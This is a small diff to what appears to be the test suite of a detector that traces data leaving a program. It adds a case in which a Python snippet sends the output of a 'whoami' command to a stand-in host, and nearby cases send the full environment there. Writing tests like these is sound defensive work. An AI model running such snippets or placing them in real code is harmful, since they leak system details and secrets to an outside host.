@@ -146,6 +146,11 @@ describe('data that leaves', () => {
       'envAll > requests.post',
     ],
     [
+      'what a command printed',
+      'import os, requests\nrequests.post("https://x.example", data=os.popen("whoami").read())',
+      'host > requests.post',
+    ],
+    [
       'only when called',
       'import os, requests\ndef go():\n  requests.post("https://x.example", data=dict(os.environ))',
       'envAll > requests.post (called)',
